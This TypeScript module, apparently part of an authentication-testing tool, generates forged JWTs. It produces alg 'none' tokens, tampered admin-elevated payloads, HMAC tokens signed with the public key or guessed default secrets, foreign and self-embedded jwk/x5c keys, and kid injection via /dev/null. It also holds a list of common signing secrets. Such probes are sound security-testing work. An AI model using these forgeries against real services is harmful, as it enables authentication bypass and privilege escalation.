/**
 * Builds the forged and test tokens the auth checks present to a service:
 * `alg: none`, tampered payloads, HMAC with the public key or a well-known
 * secret, a foreign key (also carried in the token's own `jwk` or `x5c`
 * header), an injected `kid`, and — where the checklist hands over a test
 * signing key — expired, missing-claim and malformed tokens signed for real.
 * Pure except for the signing.
 */
import { createHmac, createPrivateKey, createPublicKey, KeyObject, randomBytes, sign } from 'node:crypto';
import { exportJWK, type GenerateKeyPairResult, generateKeyPair, importPKCS8, type JWK, SignJWT } from 'jose';

export type JwtPayload = Record<string, unknown>;
export type JwtHeader = Record<string, unknown>;

const base64UrlJson = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');

export interface DecodedJwt {
  header: JwtHeader;
  payload: JwtPayload;
  signature: string;
}

/** Splits a compact JWS without verifying it; undefined when it is not one. */
export function decodeJwt(token: string): DecodedJwt | undefined {
  const [header, payload, signature] = token.split('.');
  if (header === undefined || payload === undefined || signature === undefined) return undefined;
  try {
    const decodedHeader: unknown = JSON.parse(Buffer.from(header, 'base64url').toString('utf8'));
    const decodedPayload: unknown = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8'));
    if (typeof decodedHeader !== 'object' || decodedHeader === null) return undefined;
    if (typeof decodedPayload !== 'object' || decodedPayload === null) return undefined;
    return { header: decodedHeader as JwtHeader, payload: decodedPayload as JwtPayload, signature };
  } catch {
    return undefined;
  }
}

/** `alg: none` (or another case of it: `None`, `NONE`) with an empty signature, the classic bypass. */
export function unsignedToken(payload: JwtPayload, alg = 'none'): string {
  return `${base64UrlJson({ alg, typ: 'JWT' })}.${base64UrlJson(payload)}.`;
}

/** The original header and signature over a changed payload. */
export function tamperedToken(original: DecodedJwt, payload: JwtPayload): string {
  return `${base64UrlJson(original.header)}.${base64UrlJson(payload)}.${original.signature}`;
}

/** The payload with elevated privileges: what an attacker would change. */
export function elevatedPayload(payload: JwtPayload): JwtPayload {
  return typeof payload.role === 'string'
    ? { ...payload, role: payload.role === 'admin' ? 'superuser' : 'admin' }
    : { ...payload, sub: `${String(payload.sub ?? '')}-admin` };
}

export async function hmacToken(payload: JwtPayload, secret: string, alg: 'HS256' | 'HS384' | 'HS512' = 'HS256') {
  return new SignJWT(payload).setProtectedHeader({ alg, typ: 'JWT' }).sign(new TextEncoder().encode(secret));
}

/**
 * A token signed with the service's own key material: a PEM private key for
 * asymmetric algorithms, the shared secret for HS*. `crit` names header
 * parameters the signer is to accept as critical (jose refuses unknown ones).
 */
export async function signedToken(
  payload: JwtPayload,
  header: JwtHeader,
  alg: string,
  keyMaterial: string,
  crit?: Record<string, boolean>,
) {
  const protectedHeader = { ...header, alg };
  const options = crit ? { crit } : undefined;
  if (alg.startsWith('HS')) {
    return new SignJWT(payload)
      .setProtectedHeader(protectedHeader)
      .sign(new TextEncoder().encode(keyMaterial), options);
  }
  const key = await importPKCS8(pkcs8Pem(keyMaterial), alg);
  return new SignJWT(payload).setProtectedHeader(protectedHeader).sign(key, options);
}

/** A key pair of `alg`'s family (RSA, EC, Ed25519) the service has never seen; throws for an alg jose cannot generate. */
export async function foreignKeyPair(alg: string): Promise<GenerateKeyPairResult> {
  return generateKeyPair(alg, { extractable: true });
}

/** The same claims and algorithm, signed with a key the service has never seen (`keys`, or a fresh one). */
export async function foreignKeyToken(
  payload: JwtPayload,
  header: JwtHeader,
  alg: string,
  keys?: GenerateKeyPairResult,
) {
  const protectedHeader = { ...header, alg };
  if (alg.startsWith('HS')) {
    return new SignJWT(payload).setProtectedHeader(protectedHeader).sign(randomBytes(64));
  }
  const { privateKey } = keys ?? (await generateKeyPair(alg));
  return new SignJWT(payload).setProtectedHeader(protectedHeader).sign(privateKey);
}

/**
 * Signed with a foreign asymmetric key that the token carries itself: its public key in a `jwk` header, or a
 * self-signed certificate of it in `x5c`. A verifier that takes the key from the token accepts anything
 * (CVE-2018-0114).
 */
export async function embeddedKeyToken(
  payload: JwtPayload,
  header: JwtHeader,
  alg: string,
  keys: GenerateKeyPairResult,
  where: 'jwk' | 'x5c',
) {
  const embedded =
    where === 'jwk'
      ? { jwk: publicJwk(await exportJWK(keys.publicKey)) }
      : { x5c: [selfSignedCertificate(keys).toString('base64')] };
  return new SignJWT(payload).setProtectedHeader({ ...header, alg, ...embedded }).sign(keys.privateKey);
}

/** The public members of a JWK, without WebCrypto's `ext` and `key_ops`. */
function publicJwk(jwk: JWK): JWK {
  const { kty, crv, n, e, x, y } = jwk;
  return Object.fromEntries(Object.entries({ kty, crv, n, e, x, y }).filter(([, value]) => value !== undefined));
}

/** An HMAC algorithm for hand-signed tokens: `alg` when it is one, else HS256. */
export function hmacAlg(alg: string): 'HS256' | 'HS384' | 'HS512' {
  return alg === 'HS384' || alg === 'HS512' ? alg : 'HS256';
}

/**
 * HMAC over the real header with `kid` replaced, signed by hand (jose refuses the empty key a `kid` naming
 * `/dev/null` stands for): what a verifier that looks the key up by an unchecked `kid` would compute.
 */
export function kidInjectionToken(
  payload: JwtPayload,
  header: JwtHeader,
  alg: 'HS256' | 'HS384' | 'HS512',
  kid: string,
  secret: string,
): string {
  const signingInput = `${base64UrlJson({ ...header, alg, kid })}.${base64UrlJson(payload)}`;
  const signature = createHmac(`sha${alg.slice(2)}`, secret)
    .update(signingInput)
    .digest('base64url');
  return `${signingInput}.${signature}`;
}

/** One DER element (X.690): tag, definite length, content. */
function der(tag: number, ...content: Uint8Array[]): Buffer {
  const body = Buffer.concat(content);
  const length: number[] = [];
  for (let rest = body.length; rest > 0; rest = Math.floor(rest / 256)) length.unshift(rest % 256);
  const header = body.length < 0x80 ? [body.length] : [0x80 | length.length, ...length];
  return Buffer.concat([Buffer.from([tag, ...header]), body]);
}

/** The certificate signature (AlgorithmIdentifier, hash) for each key type jose generates for JWS. */
const CERT_SIGNATURES: Record<string, { algorithm: string; hash: string | null }> = {
  // sha256WithRSAEncryption with NULL parameters, ecdsa-with-SHA256, Ed25519, Ed448.
  rsa: { algorithm: '06092a864886f70d01010b0500', hash: 'sha256' },
  ec: { algorithm: '06082a8648ce3d040302', hash: 'sha256' },
  ed25519: { algorithm: '06032b6570', hash: null },
  ed448: { algorithm: '06032b6571', hash: null },
};

/** A minimal self-signed X.509 v3 certificate (DER) of a foreign key pair: what an `x5c` header carries. */
export function selfSignedCertificate(keys: GenerateKeyPairResult): Buffer {
  const privateKey = KeyObject.from(keys.privateKey);
  const type = privateKey.asymmetricKeyType ?? '';
  const signature = CERT_SIGNATURES[type];
  if (!signature) throw new Error(`no certificate signature for a ${type} key`);
  const algorithm = der(0x30, Buffer.from(signature.algorithm, 'hex'));
  // CN=secgate forged key; valid 2020-01-01 to 2049-12-31 (UTCTime's last year), so no clock is read.
  const name = der(
    0x30,
    der(0x31, der(0x30, der(0x06, Buffer.from('550403', 'hex')), der(0x0c, Buffer.from('secgate forged key')))),
  );
  const validity = der(0x30, der(0x17, Buffer.from('200101000000Z')), der(0x17, Buffer.from('491231235959Z')));
  const serial = randomBytes(8);
  // Positive and minimal, as DER wants an INTEGER: the top bit clear, the next one set.
  serial[0] = ((serial[0] as number) & 0x3f) | 0x40;
  const tbs = der(
    0x30,
    der(0xa0, der(0x02, Buffer.from([2]))),
    der(0x02, serial),
    algorithm,
    name,
    validity,
    name,
    createPublicKey(privateKey).export({ format: 'der', type: 'spki' }),
  );
  const value = sign(signature.hash, tbs, privateKey);
  return der(0x30, tbs, algorithm, der(0x03, Buffer.from([0]), value));
}

/** Accepts PKCS#1 / SEC1 / PKCS#8 PEM and returns PKCS#8, which jose imports. */
function pkcs8Pem(pem: string): string {
  return createPrivateKey(pem).export({ format: 'pem', type: 'pkcs8' }).toString();
}

/** The SPKI PEM of a private key, for the HMAC-with-public-key confusion probe. */
export function publicKeyPemOf(privateKeyPem: string): string {
  return createPublicKey(createPrivateKey(privateKeyPem)).export({ format: 'pem', type: 'spki' }).toString();
}

/** Well-known default signing secrets (seed 000's `default_secret` and friends). */
export const WELL_KNOWN_SECRETS: readonly string[] = [
  'default_secret',
  'secret',
  'changeme',
  'change-me',
  'your-256-bit-secret',
  'supersecret',
  'jwt_secret',
  'password',
];
